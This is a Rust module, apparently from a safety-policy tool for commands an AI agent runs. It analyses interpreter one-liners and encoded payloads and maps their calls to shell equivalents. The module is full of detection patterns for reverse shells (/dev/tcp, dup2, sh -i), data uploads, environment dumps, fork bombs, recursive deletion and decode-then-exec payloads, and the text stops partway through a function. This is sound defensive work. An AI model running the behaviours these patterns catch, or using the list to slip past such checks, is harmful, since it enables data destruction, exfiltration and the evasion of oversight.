//! Interpreter one-liners (`python -c`, `perl -e`, `node -e`, `ruby -e`, `php -r`,
//! `awk 'BEGIN{system(…)}'`) and encoded payloads.
//!
//! A grammar per language would not pay here: one-liners are short and the dangerous
//! calls are few and well known. We match those calls and turn them into what a shell
//! would have run: `shutil.rmtree('/')` becomes `rm -r -f /`, `os.system("…")` hands its
//! string back to the shell normaliser, so the same rules judge both.

pub use crate::interp_literals::{b64_decode, hex_decode};
use crate::twin_regex::TwinRegex;
use crate::word::{DYN, Word};
use regex::Regex;
use std::collections::HashMap;
use std::sync::LazyLock;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lang {
    Python,
    Perl,
    Ruby,
    Node,
    Php,
    Lua,
    Awk,
    /// `Rscript -e`, `R -e`.
    R,
    /// `go run FILE.go` of a file written earlier in the command line.
    Go,
}

impl Lang {
    /// The flag that introduces inline code, for explanations.
    pub fn code_flag(self) -> &'static str {
        match self {
            Lang::Python => "-c",
            Lang::Perl | Lang::Ruby | Lang::Node | Lang::Lua => "-e",
            Lang::Php => "-r",
            Lang::Awk => "program",
            Lang::R => "-e",
            Lang::Go => "run",
        }
    }
}

/// The interpreter a command name runs, if any.
pub fn language(name: &str) -> Option<Lang> {
    let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    Some(match base {
        "python" | "pypy" | "python3-" | "py" => Lang::Python,
        "perl" => Lang::Perl,
        "ruby" | "jruby" => Lang::Ruby,
        "node" | "nodejs" | "deno" | "bun" => Lang::Node,
        "php" => Lang::Php,
        "lua" | "luajit" => Lang::Lua,
        "awk" | "gawk" | "mawk" | "nawk" | "busybox-awk" => Lang::Awk,
        "Rscript" | "R" => Lang::R,
        _ => return None,
    })
}

/// Finds the inline code in an interpreter's arguments. Returns the code word, or
/// whether the program would be read from stdin (no code and no script file).
pub fn code_arg(lang: Lang, rest: &[Word]) -> (Option<Word>, bool) {
    let code_flags: &[&str] = match lang {
        Lang::Python => &["c"],
        Lang::Perl | Lang::Ruby | Lang::Lua => &["e", "E"],
        Lang::Node => &["e", "p", "-eval", "-print"],
        Lang::Php => &["r"],
        Lang::R => &["e"],
        Lang::Awk | Lang::Go => &[],
    };
    let value_flags: &[char] = match lang {
        Lang::Python => &['W', 'X', 'm'],
        Lang::Perl => &['I', 'M', 'x'],
        Lang::Ruby => &['I', 'r'],
        Lang::Node => &['r'],
        Lang::Php => &['d', 'c', 'z'],
        Lang::Lua => &['l'],
        Lang::Awk => &['F', 'v', 'f'],
        Lang::R => &[],
        // `go run` build flags that take a value.
        Lang::Go => &['C', 'o', 'p'],
    };
    let mut codes: Vec<Word> = Vec::new();
    let mut i = 0;
    // `deno eval CODE`, `bun run x`.
    if lang == Lang::Node && rest.first().is_some_and(|w| w.text == "eval") {
        return (rest.get(1).cloned(), false);
    }
    // `deno run -A -`, `bun run -`: the options and the script follow `run`.
    if lang == Lang::Node && rest.first().is_some_and(|w| w.text == "run") {
        i = 1;
    }
    while i < rest.len() {
        let t = rest[i].text.as_str();
        if t == "--" {
            i += 1;
            break;
        }
        if t == "-" || !t.starts_with('-') {
            break;
        }
        if let Some(long) = t.strip_prefix("--") {
            let (name, val) = long.split_once('=').unwrap_or((long, ""));
            if code_flags.contains(&format!("-{name}").as_str()) {
                if !val.is_empty() {
                    codes.push(Word::lit(val));
                    i += 1;
                } else {
                    codes.extend(rest.get(i + 1).cloned());
                    i += 2;
                }
                continue;
            }
            i += 1;
            continue;
        }
        let cluster = &t[1..];
        let mut consumed_next = false;
        for (pos, ch) in cluster.char_indices() {
            let after = &cluster[pos + ch.len_utf8()..];
            if code_flags.iter().any(|f| f.len() == 1 && f.starts_with(ch)) {
                if after.is_empty() {
                    codes.extend(rest.get(i + 1).cloned());
                    consumed_next = true;
                } else {
                    codes.push(Word {
                        text: after.to_owned(),
                        ..rest[i].clone()
                    });
                }
                break;
            }
            if value_flags.contains(&ch) {
                consumed_next = after.is_empty();
                break;
            }
        }
        i += if consumed_next { 2 } else { 1 };
    }
    if !codes.is_empty() {
        let mut w = Word::default();
        for c in codes {
            if !w.text.is_empty() {
                w.text.push('\n');
            }
            w.text.push_str(&c.text);
            w.subst.extend(c.subst);
        }
        return (Some(w), false);
    }
    if lang == Lang::Awk {
        let from_file = rest
            .iter()
            .any(|w| w.text == "-f" || w.text.starts_with("-f"));
        if !from_file {
            return (rest.get(i).cloned(), false);
        }
        return (None, false);
    }
    match rest.get(i) {
        Some(w) if w.text == "-" => (None, true),
        Some(_) => (None, false),
        None => (None, true),
    }
}

/// Calls of each kind looked at per piece of code (keeps hostile input linear).
const MAX_CALLS: usize = 64;
/// The tag of code beyond what is analysed (too long, too deep, too many calls): the
/// walker treats it as over its bound, never as harmless.
pub const OVER_BOUND: &str = "over_bound";
/// How far an argument list is scanned for its closing parenthesis.
const MAX_ARGS_SCAN: usize = 8 * 1024;

/// What a piece of interpreter code would do, in shell terms.
#[derive(Debug, Default, Clone)]
pub struct Effects {
    /// Shell code it runs (`os.system("…")`).
    pub shell: Vec<String>,
    /// Programs it runs directly, or shell equivalents of its file operations.
    pub commands: Vec<Vec<String>>,
    /// Files it opens for writing.
    pub writes: Vec<String>,
    /// Path-like string literals it mentions (files it may read or send).
    pub paths: Vec<String>,
    /// `net`, `net_upload`, `obfuscated`, …
    pub tags: Vec<String>,
}

/// Compiles one of this module's literal patterns. A bad literal is a bug caught by the
/// first test that evaluates anything, never an input-dependent failure.
#[allow(clippy::expect_used)]
pub(crate) fn static_regex(pattern: &str) -> TwinRegex {
    TwinRegex::from_full(Regex::new(pattern).expect("a literal pattern compiles"))
}

static ASSIGN: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r#"(?:^|[;\s({])(?:my\s+|let\s+|const\s+|var\s+)?\$?([A-Za-z_]\w*)\s*=\s*(?:'([^'\\]*)'|"([^"\\]*)")"#,
    )
});

/// Whether `code` has an `=` followed by blanks and a quote, which every [`ASSIGN`]
/// match has. The pattern has no literal to search for first, so its lazy DFA would
/// otherwise walk (and, on text it has not seen, build states along) all of the code.
fn may_assign(code: &str) -> bool {
    code.match_indices('=').any(|(i, _)| {
        code[i + 1..]
            .trim_start_matches(char::is_whitespace)
            .starts_with(['\'', '"'])
    })
}

/// `name = 'literal'` (and `$name = "…"`) assignments in one-liner code.
fn assignments(code: &str) -> HashMap<String, String> {
    if !may_assign(code) {
        return HashMap::new();
    }
    let mut vars = HashMap::new();
    for c in ASSIGN.captures_iter(code).take(64) {
        let (Some(name), Some(v)) = (c.get(1), c.get(2).or_else(|| c.get(3))) else {
            continue;
        };
        // `p = '~' + '/.claude/settings.json'`: the value is the whole concatenation,
        // up to the end of the statement.
        let after = code[v.end() + 1..].trim_start();
        let value = if after.starts_with('+') || after.starts_with(". ") {
            let rhs = &code[v.start() - 1..];
            let end = rhs[v.len() + 2..]
                .find([';', '\n'])
                .map_or(rhs.len(), |e| e + v.len() + 2);
            concatenation(&rhs[..end], &vars).unwrap_or_else(|| v.as_str().to_owned())
        } else {
            v.as_str().to_owned()
        };
        vars.insert(name.as_str().to_owned(), value);
    }
    vars
}

/// Evaluates `'a' + b + "c"` / `"a" . $b`: literals, known variables, and [`DYN`] for
/// anything else. `None` when the arguments are not a concatenation.
fn concatenation(args: &str, vars: &HashMap<String, String>) -> Option<String> {
    let b = args.as_bytes();
    let mut out = String::new();
    let mut i = 0;
    let mut joined = false;
    let mut ident = String::new();
    let flush = |ident: &mut String, out: &mut String| {
        let name = ident.trim().trim_start_matches('$');
        if !name.is_empty() {
            match vars.get(name) {
                Some(v) => out.push_str(v),
                None => out.push(DYN),
            }
        }
        ident.clear();
    };
    while i < b.len() {
        let c = b[i];
        if c == b'\'' || c == b'"' {
            let rest = args.get(i + 1..)?;
            let end = rest.find(c as char)?;
            out.push_str(&rest[..end]);
            i += end + 2;
            continue;
        }
        match c {
            b'+' => {
                flush(&mut ident, &mut out);
                joined = true;
            }
            b'.' if b.get(i + 1) == Some(&b' ') || b.get(i.wrapping_sub(1)) == Some(&b' ') => {
                flush(&mut ident, &mut out);
                joined = true;
            }
            b',' | b')' | b'{' => break,
            _ => ident.push(c as char),
        }
        i += 1;
    }
    flush(&mut ident, &mut out);
    joined.then_some(out)
}

/// Whether byte `pos` of `code` lies inside one of the (non-backtick) literals: a call
/// written inside a string (`print("os.system(…)")`) is text, not a call.
fn in_literal(strings: &[(&str, u8)], code: &str, pos: usize) -> bool {
    let base = code.as_ptr() as usize;
    let start_of = |lit: &str| (lit.as_ptr() as usize).saturating_sub(base);
    // Literals come in order: find the last one starting at or before `pos`.
    let idx = strings.partition_point(|(lit, _)| start_of(lit) <= pos);
    idx > 0
        && strings
            .get(idx - 1)
            .is_some_and(|(lit, q)| *q != b'`' && pos < start_of(lit) + lit.len())
}

/// String literals in `text` (`'…'`, `"…"`, tripled quotes, backticks) with their quote
/// character. A small scanner: capture-group regexes cost more per call than the whole
/// shell parse.
fn scan_strings(text: &str) -> Vec<(&str, u8)> {
    scan_strings_of(text, false)
}

/// [`scan_strings`], and with `percent` Ruby's bracketed percent literals too
/// (`%q(…)`, `%Q{…}`, `%w[…]`, `%(…)`), marked with `%`.
fn scan_strings_of(text: &str, percent: bool) -> Vec<(&str, u8)> {
    let b = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() && out.len() < 4096 {
        let q = b[i];
        if percent
            && q == b'%'
            && let Some((start, end)) = percent_literal(b, i)
        {
            if let Some(lit) = text.get(start..end) {
                out.push((lit, b'%'));
            }
            i = end + 1;
            continue;
        }
        if !matches!(q, b'\'' | b'"' | b'`') {
            i += 1;
            continue;
        }
        let triple = q != b'`' && b.get(i..i + 3) == Some(&[q, q, q][..]);
        let open = if triple { 3 } else { 1 };
        let start = i + open;
        let mut j = start;
        let mut end = None;
        while j < b.len() {
            if b[j] == b'\\' {
                j += 2;
                continue;
            }
            if b[j] == q && (!triple || b.get(j..j + 3) == Some(&[q, q, q][..])) {
                end = Some(j);
                break;
            }
            j += 1;
        }
        let Some(e) = end else { break };
        if let Some(lit) = text.get(start..e) {
            out.push((lit, q));
        }
        i = e + open;
    }
    out
}

/// The body of a Ruby percent literal opening at `b[at]` (`%q(`, `%Q[`, `%w{`, `%<`,
/// or a bare `%(` where no operand precedes it), up to its matching bracket: (start,
/// end) byte offsets of the body.
fn percent_literal(b: &[u8], at: usize) -> Option<(usize, usize)> {
    let mut open_at = at + 1;
    if matches!(
        b.get(open_at),
        Some(b'q' | b'Q' | b'w' | b'W' | b'i' | b'I')
    ) {
        open_at += 1;
    } else {
        // Bare `%(`: only where a value starts, not `x %(y)` as modulo.
        let before = b[..at].iter().rev().find(|c| !c.is_ascii_whitespace());
        if before.is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, b')' | b']' | b'_')) {
            return None;
        }
    }
    let open = *b.get(open_at)?;
    let close = match open {
        b'(' => b')',
        b'[' => b']',
        b'{' => b'}',
        b'<' => b'>',
        _ => return None,
    };
    let mut nesting = 0usize;
    let mut j = open_at + 1;
    while j < b.len() {
        match b[j] {
            b'\\' => j += 1,
            c if c == open => nesting += 1,
            c if c == close && nesting == 0 => return Some((open_at + 1, j)),
            c if c == close => nesting -= 1,
            _ => {}
        }
        j += 1;
    }
    None
}

static HOME_EXPR: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r#"os\.environ\[\s*['"]HOME['"]\s*\]|os\.environ\.get\(\s*['"]HOME['"]\s*\)|(?:os\.)?getenv\(\s*['"]HOME['"]\s*\)|Path\.home\(\)|(?:require\(\s*['"]os['"]\s*\)|os)\.homedir\(\)|process\.env\.HOME|process\.env\[\s*['"]HOME['"]\s*\]|\$ENV\{\s*['"]?HOME['"]?\s*\}|ENV\[\s*['"]HOME['"]\s*\]|Dir\.home|\$_SERVER\[\s*['"]HOME['"]\s*\]"#,
    )
});

/// The working directory (`os.getcwd()`, `process.cwd()`, `Dir.pwd`): the project.
static CWD_EXPR: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r#"\bos\.getcwdb?\(\)|Path\.cwd\(\)|process\.cwd\(\)|Dir\.(?:pwd|getwd)\b|\bgetcwd\(\)|Deno\.cwd\(\)|os\.environ\[\s*['"]PWD['"]\s*\]|process\.env\.PWD\b|\$ENV\{\s*['"]?PWD['"]?\s*\}"#,
    )
});

/// Calls that hand one string to a shell (Lua's `os.execute`, not a database cursor's
/// `execute`, whose string is SQL).
static SHELL_CALL: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r"(?x)
        \b(?:os\.system|os\.popen|system|popen|shell_exec|passthru|proc_open|exec|execSync|
           spawnSync|spawn|execFile|execFileSync|getoutput|getstatusoutput|check_output|check_call|
           call|run|Popen|os\.execute|Open3\.\w+|IO\.popen|pcntl_exec|do\s+shell\s+script|
           os\.exec[lv]p?e?|os\.spawn[lv]p?e?|os\.posix_spawnp?|pty\.spawn|Deno\.run|Deno\.Command|
           Bun\.spawn|Bun\.spawnSync|Process\.spawn|exec\.Command|exec\.CommandContext|system2)
        \s*(?:\(|\s)",
    )
});

/// The calls `re` finds in `code` outside its string literals, at most [`MAX_CALLS`].
/// Past that, or past the matches it may look through to find them, the code is marked
/// `over_bound`: no call is left unjudged behind a padding of harmless ones.
fn calls_in<'c>(
    re: &TwinRegex,
    code: &'c str,
    strings: &[(&str, u8)],
    fx: &mut Effects,
) -> Vec<regex::Match<'c>> {
    let mut found = Vec::new();
    for (seen, m) in re.find_iter(code).enumerate() {
        if seen == MAX_CALLS * 8 || found.len() == MAX_CALLS {
            if !fx.tags.iter().any(|t| t == OVER_BOUND) {
                fx.tags.push(OVER_BOUND.to_owned());
            }
            break;
        }
        if !in_literal(strings, code, m.start()) {
            found.push(m);
        }
    }
    found
}

/// `asyncio.run(main())`, `trio.run(…)`: an event loop running a coroutine, not a shell.
fn runs_coroutines(before: &str) -> bool {
    ["asyncio.", "trio.", "anyio.", "uvloop."]
        .iter()
        .any(|m| before.ends_with(m))
}

static RM_RECURSIVE: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r"\b(?:rmtree|remove_tree|rm_rf|rm_r|remove_dir|rmSync|rmdirSync|rimraf|removeSync|emptyDirSync|fs\.rm|fs\.promises\.rm|fsPromises\.rm|require\(\s*['\x22](?:node:)?fs(?:/promises)?['\x22]\s*\)\.(?:promises\.)?rm(?:Sync)?|rmdir|Deno\.remove|FileUtils\.rm|os\.RemoveAll)\s*\(?",
    )
});

static RM_FILE: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r"\b(?:os\.remove|os\.unlink|unlink|unlinkSync|File\.delete|remove|\.unlink)\s*\(?",
    )
});

static CHMOD_CALL: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r"(?:\b(?:os\.l?chmod|File\.chmod|FileUtils\.chmod(?:_R)?|chmod)|\.chmod(?:Sync)?)\s*\(",
    )
});

/// Code that walks a directory tree: a call on each entry reaches the whole tree.
static TREE_WALK: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r"\bos\.walk\(|\.rglob\(|\bglob\([^)]*\*\*|readdirSync\([^)]*recursive|\bFind\.find\b|File::Find|Dir\.glob\([^)]*\*\*|RecursiveDirectoryIterator|\bwalkdir\b",
    )
});

static WRITE_CALL: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r#"\b(?:writeFileSync|appendFileSync|writeFile|appendFile|file_put_contents|write_text|write_bytes|File\.write|IO\.write|createWriteStream)\s*\("#,
    )
});

static OPEN_CALL: LazyLock<TwinRegex> =
    LazyLock::new(|| static_regex(r#"\b(?:open|File\.open|fopen)\s*\("#));

static NET: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r"\b(?:requests\.|urllib|urlopen|http\.client|httplib|socket\.|socket\(|fetch\(|axios|https?\.request|https?\.get|Net::HTTP|LWP::|HTTP::Tiny|curl_exec|curl_init|IO::Socket|TCPSocket|net\.connect|net\.Socket|websocket|smtplib|ftplib|paramiko|require\(\s*['\x22](?:node:)?net['\x22]\s*\)|\bnet\.Dial\b|http\.Post|http\.NewRequest|\bhttr::|\bdownload\.file\(|\burl\(\s*['\x22]https?:|require\(\s*['\x22](?:node:)?https?['\x22]\s*\)|file_get_contents\(\s*['\x22]https?:|XMLHttpRequest|Invoke-WebRequest|open-uri|URI\.open|URI\(|\bopen\(\s*['\x22]https?:)",
    )
});

static UPLOAD: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r"(?i)\b(?:requests\.(?:post|put|patch)|method\s*[:=]\s*['\x22](?:post|put|patch|delete)|\.post\(|\.put\(|sendall|\.send\(|\.write\(|\.end\([^)]|CURLOPT_POSTFIELDS|urlopen\([^)]*data|Request\([^)]*data)",
    )
});

/// A signal sent to process -1 (all processes): `os.kill(-1, …)`, `kill(9, -1)`.
static KILL_ALL: LazyLock<TwinRegex> =
    LazyLock::new(|| static_regex(r"\b(?:killpg|kill)\s*\(?\s*(?:-1\b|[^,()\n]{1,24},\s*-1\b)"));

/// The whole environment (not one named variable) as a value.
static ENV_DUMP: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r"os\.environ\b[^\[.]|os\.environ\)|os\.environ$|dict\(os\.environ|process\.env\b[^.\[]|process\.env\)|%ENV\b|\bENV\.to_h|getenv\(\)|\$_ENV\b[^\[]|\$_SERVER\b[^\[]",
    )
});

static FORK_LOOP: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r"\bfork\b[^;\n]*\bwhile\s*\(?\s*(1|true|True)\b|\bwhile\s*\(?\s*(1|true|True)\s*\)?\s*[:{]?\s*(os\.)?fork\s*\(|\bloop\s*\{?\s*fork\b|\bwhile\s*\(?\s*(os\.|pcntl_|process\.)?fork\b",
    )
});

/// A loop that never ends on its own (`while True:`, `loop {`, `for(;;)`).
static ENDLESS: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r"\bwhile\s*\(?\s*(1|true|True|!0)\s*\)?\s*[:{]?|\bloop\s*(\{|do\b)|\bfor\s*\(\s*;\s*;\s*\)|\biter\s*\(\s*int\s*,\s*1\s*\)|itertools\.count\(|\bwhile\s+fork\b|\bfork\s+while\b|\buntil\s+false\b",
    )
});

/// What turns an endless loop into a bomb: spawning processes or piling up memory.
static BOMB_BODY: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r"\bfork\b|pcntl_fork|\bProcess\s*\(|\bThread\s*\(|\bspawn\w*\s*\(|Popen\s*\(|child_process|\.start\s*\(\s*\)|\*\s*10\s*\*\*\s*\d|\b10\s*\*\*\s*[6-9]\b|\b2\s*\*\*\s*[2-9]\d\b|\bx\s*1e\d|\*\s*\d{7,}|Buffer\.alloc\(\s*\d{7,}|\bexec[lv]p?e?\s*\(",
    )
});

/// A loop with a literal count: `for _ in range(64)`, `range(10**9)`, `64.times`,
/// `(1..64)`, `for (i = 0; i < 64; i++)`. One of the groups is the count.
static COUNTED_LOOP: LazyLock<TwinRegex> = LazyLock::new(|| {
    const COUNT: &str =
        r"int\(\s*\d+(?:\.\d+)?[eE]\d+\s*\)|\d[\d_]*(?:\.\d+)?(?:[eE]\d+)?(?:\s*\*\*\s*\d+)?";
    static_regex(&format!(
        r"\bfor\s+\w+\s+in\s+x?range\s*\(\s*(?:\d+\s*,\s*)?({COUNT})\s*[,)]|\b({COUNT})\s*\)?\s*\.times\b|\(\s*\d+\s*\.\.\.?\s*({COUNT})\s*\)|\bfor\s*\([^;)]*;\s*\$?\w+\s*<=?\s*({COUNT})\s*;"
    ))
});

/// A POSIX fork whose two processes both carry on (`os.fork()`, `pcntl_fork()`, Perl's
/// and Ruby's bare `fork`); not `cluster.fork()` nor Ruby's `fork { … }` (the child
/// runs the block and exits).
static DOUBLING_FORK: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(r#"(?m)(?:\bos\.|\bpcntl_|(?:^|[^.\w'"]))fork\b\s*(?:\(\s*\)|;|$|\}|\])"#)
});

/// The fork's result is looked at (`pid = os.fork()`, `if os.fork() == 0`, `fork or
/// exec …`), or processes leave the loop (`exit`, `break`): a worker pool, not doubling.
static FORK_TESTED: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r"(?:=|\bif\s+(?:not\s+)?|\bunless\s+|\bor\s+|\band\s+|\|\||&&)\s*(?:os\.|pcntl_)?fork\b|\bfork\b\s*(?:\(\s*\))?\s*(?:==|!=|<|>|\bor\b|\band\b|\|\||&&)|\b_?exit\b|\bbreak\b|\bdie\b",
    )
});

/// More iterations than this of a fork both processes go on from double the processes
/// each time: 2^9 and more is a bomb.
const DOUBLING_MAX: f64 = 8.0;
/// Spawning anything this many times is a bomb whatever the children do.
const SPAWN_MAX: f64 = 1e6;

/// The number a loop count literal stands for (`64`, `10**9`, `1e9`, `int(1e9)`).
fn loop_count(text: &str) -> f64 {
    let t: String = text
        .trim_start_matches("int(")
        .trim_end_matches(')')
        .chars()
        .filter(|c| !c.is_whitespace() && *c != '_')
        .collect();
    match t.split_once("**") {
        Some((base, exp)) => match (base.parse::<f64>(), exp.parse::<f64>()) {
            (Ok(b), Ok(e)) => b.powf(e),
            _ => 0.0,
        },
        None => t.parse().unwrap_or(0.0),
    }
}

/// A fork inside a loop with a literal count that makes it a bomb without an endless
/// loop: `for _ in range(64): os.fork()` (2^64 processes), `[os.fork() for _ in
/// range(10**9)]`. In the loop means after its header, or before it on the same
/// statement (a comprehension).
fn counted_fork_bomb(code: &str) -> bool {
    if !code.contains("fork") && !BOMB_BODY.is_match(code) {
        return false;
    }
    let doubling = !FORK_TESTED.is_match(code);
    COUNTED_LOOP.captures_iter(code).any(|c| {
        let (Some(head), Some(count)) = (c.get(0), (1..=4).find_map(|i| c.get(i))) else {
            return false;
        };
        let n = loop_count(count.as_str());
        let in_loop = |m: regex::Match<'_>| {
            m.start() >= head.end()
                || (m.end() <= head.start() && !code[m.end()..head.start()].contains([';', '\n']))
        };
        n > DOUBLING_MAX && doubling && DOUBLING_FORK.find_iter(code).any(in_loop)
            || n >= SPAWN_MAX && BOMB_BODY.find_iter(code).any(in_loop)
    })
}

/// Running text as code (`exec(…)`, `eval(…)`, `.then(eval)`, `new Function`).
static EXEC_SINK: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r"\bexec\s*\(|\beval\s*[\(`]|\beval\s+[A-Za-z_$][\w:]*[\s(.]|\.then\(\s*eval\s*\)|new\s+Function\s*\(|\binstance_eval\b|\bFunction\s*\(\s*await",
    )
});

static SOCKET: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r"(?i)\bsocket\b|fsockopen|TCPSocket|IO::Socket|net\.Socket|net\.connect|Socket::|/dev/tcp/|/inet6?/tcp/|require\(\s*['\x22](?:node:)?net['\x22]\s*\)|\bnet\.Dial\b|\bsocketConnection\b",
    )
});

static SPAWN_SHELL: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r"/bin/(ba|z|da)?sh\b|\b(ba)?sh\s+-i\b|pty\.spawn|dup2|\bcmd\.exe\b|spawn\(\s*['\x22](ba)?sh|IO\.popen\s*\(\s*[a-z_]\w*\s*[,)]|\(\s*[a-z_]\w*\s*\|&\s*getline\s*\)",
    )
});

/// A pipe opened into a shell, whose input is then code: Perl's `open(P, "| sh")` and
/// `open(P, "|-", "sh")`, `popen("sh", "w")` in Ruby, Python, PHP and C-like code, awk's
/// `print … | "sh"`.
static SHELL_PIPE: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r#"\bopen\s*\(?\s*\w+\s*,\s*['"]\|\s*(?:/bin/)?(?:ba|z|da)?sh\b|['"]\|-['"]\s*,\s*['"](?:/bin/)?(?:ba|z|da)?sh['"]|popen\s*\(\s*['"](?:/bin/)?(?:ba|z|da)?sh['"]\s*,\s*['"]w|\|\s*"(?:/bin/)?(?:ba|z|da)?sh"|\|\s*"(?:/bin/)?(?:ba|z|da)?sh\s*-s?"\s*"#,
    )
});

/// Most literals of code that writes into a shell judged as the shell's input.
const MAX_PIPED: usize = 8;

static DECODE_EXEC: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r"\b(?:exec|eval|compile|Function)\s*\(\s*(?:base64\.b64decode|b64decode|codecs\.decode|atob|Buffer\.from|base64_decode|decode_base64|Base64\.decode64|bytes\.fromhex|zlib\.decompress|unhexlify)|\beval\s*\(?\s*(?:base64_decode|decode_base64|gzinflate|str_rot13|MIME::Base64)|\bpack\s*\(\s*['\x22]H",
    )
});

/// Code that runs what it reads from standard input (`exec(sys.stdin.read())`, Perl's
/// `eval join "", <STDIN>`): a program fed on stdin, like `python3 -`.
static STDIN_EXEC: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r"\b(?:exec|eval|compile|Function)\b[^;\n]{0,40}(?:sys\.stdin|<STDIN>|<>|\$stdin|STDIN\.read|process\.stdin|readFileSync\(\s*(?:0|['\x22]/dev/stdin)|php://stdin|io\.read)",
    )
});

/// The tag of code that runs its standard input as code.
pub const RUNS_STDIN: &str = "runs_stdin";

/// Running a literal as code of the same language (`exec('…')`, Perl's `eval "…"`).
static CODE_SINK: LazyLock<TwinRegex> =
    LazyLock::new(|| static_regex(r"\b(?:exec|eval)\s*(?:\(|\s)"));

/// `getattr(__import__('os'), 'system')` and `getattr(os, 'system')`: `os.system`.
static GETATTR: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r#"getattr\(\s*(?:__import__\(\s*['"](\w+)['"]\s*\)|(\w+))\s*,\s*['"](\w+)['"]\s*\)"#,
    )
});

/// `const {execSync: x} = require('child_process')`, `const x = require('child_process').execSync`:
/// `x(…)` is the named function.
static JS_ALIAS: LazyLock<TwinRegex> = LazyLock::new(|| {
    static_regex(
        r"\b(exec|execSync|spawn|spawnSync|execFile|execFileSync|rm|rmSync)\s*:\s*([A-Za-z_$][\w$]*)|([A-Za-z_$][\w$]*)\s*=\s*require\(\s*['\x22](?:node:)?child_process['\x22]\s*\)\.(\w+)",
    )
});

/// Rewrites call forms the patterns below do not read into ones they do: Perl's
/// `q{…}`/`qq{…}` quoting as `"…"`, Python's `getattr(module, 'name')` as `module.name`,
/// JavaScript aliases of `child_process` functions as the functions. `None` when none
/// applies (the common case costs a few substring checks).
fn normalize_calls(lang: Lang, code: &str) -> Option<String> {
    match lang {
        Lang::Perl if code.contains("q{") || code.contains("q(") || code.contains("q[") => {
            Some(perl_quotes(code))
        }
        Lang::Python if code.contains("getattr(") => {
            let mut out = String::with_capacity(code.len());
            let mut last = 0;
            for c in GETATTR.captures_iter(code).take(8) {
                let all = c.get(0)?;
                let module = c.get(1).or(c.get(2)).map_or("", |m| m.as_str());
                out.push_str(&code[last..all.start()]);
                out.push_str(module);
                out.push('.');
                out.push_str(&c[3]);
                last = all.end();
            }
            out.push_str(&code[last..]);
            Some(out)
        }
        Lang::Node if code.contains("child_process") || code.contains("fs") => {
            let mut out = code.to_owned();
            let aliases: Vec<(String, String)> = JS_ALIAS
                .captures_iter(code)
                .take(8)
                .filter_map(|c| match (c.get(1), c.get(2), c.get(3), c.get(4)) {
                    (Some(f), Some(a), _, _) => {
                        Some((a.as_str().to_owned(), f.as_str().to_owned()))
                    }
                    (_, _, Some(a), Some(f)) => {
                        Some((a.as_str().to_owned(), f.as_str().to_owned()))
                    }
                    _ => None,
                })
                .filter(|(a, f)| a != f)
                .collect();
            if aliases.is_empty() {
                return None;
            }
            for (alias, f) in aliases {
                out = replace_calls(&out, &alias, &f);
            }
            Some(out)
        }
        _ => None,
    }
}

/// `alias(` → `name(` where `alias` stands as a whole word.
fn replace_calls(code: &str, alias: &str, name: &str) -> String {
    let mut out = String::with_capacity(code.len());
    let mut rest = code;
    while let Some(p) = rest.find(alias) {
        let before_ok = rest[..p]
            .chars()
            .last()
            .is_none_or(|c| !(c.is_alphanumeric() || c == '_' || c == '$' || c == '.'));
        let after = &rest[p + alias.len()..];
        out.push_str(&rest[..p]);
        if before_ok && after.trim_start().starts_with('(') {
            out.push_str(name);
        } else {
            out.push_str(alias);
        }
        rest = after;
    }
    out.push_str(rest);
    out
}

/// Perl's `q{…}`, `qq{…}`, `q(…)`, `qq[…]` as double-quoted strings (brackets nest).
fn perl_quotes(code: &str) -> String {
    let b = code.as_bytes();
    let mut out = String::with_capacity(code.len());
    let mut i = 0;
    let mut copied = 0;
    while i < b.len() {
        let word_start = i == 0 || !(b[i - 1].is_ascii_alphanumeric() || b[i - 1] == b'_');
        let len = if b[i..].starts_with(b"qq") { 2 } else { 1 };
        if b[i] != b'q' || !word_start {
            i += 1;
            continue;
        }
        let open_at = i + len;
        let close = match b.get(open_at) {
            Some(b'{') => b'}',
            Some(b'(') => b')',
            Some(b'[') => b']',
            _ => {
                i += 1;
                continue;
            }
        };
        let open = b[open_at];
        let mut depth = 0usize;
        let mut j = open_at;
        let mut end = None;
        while j < b.len() {
            if b[j] == b'\\' {
                j += 2;
                continue;
            }
            if b[j] == open {
                depth += 1;
            } else if b[j] == close {
                depth -= 1;
                if depth == 0 {
                    end = Some(j);
                    break;
                }
            }
            j += 1;
        }
        let Some(e) = end else { break };
        out.push_str(&code[copied..i]);
        out.push('"');
        out.push_str(&code[open_at + 1..e].replace('"', "\\\""));
        out.push('"');
        i = e + 1;
        copied = i;
    }
    out.push_str(&code[copied..]);
    out
}

/// Compiles every pattern this module uses, so no call pays for it (workers and
/// `policy eval` warm up before timing; a one-shot hook process does not).
pub fn warm() {
    for r in [
        &HOME_EXPR,
        &CWD_EXPR,
        &SHELL_CALL,
        &RM_RECURSIVE,
        &RM_FILE,
        &CHMOD_CALL,
        &TREE_WALK,
        &WRITE_CALL,
        &OPEN_CALL,
        &NET,
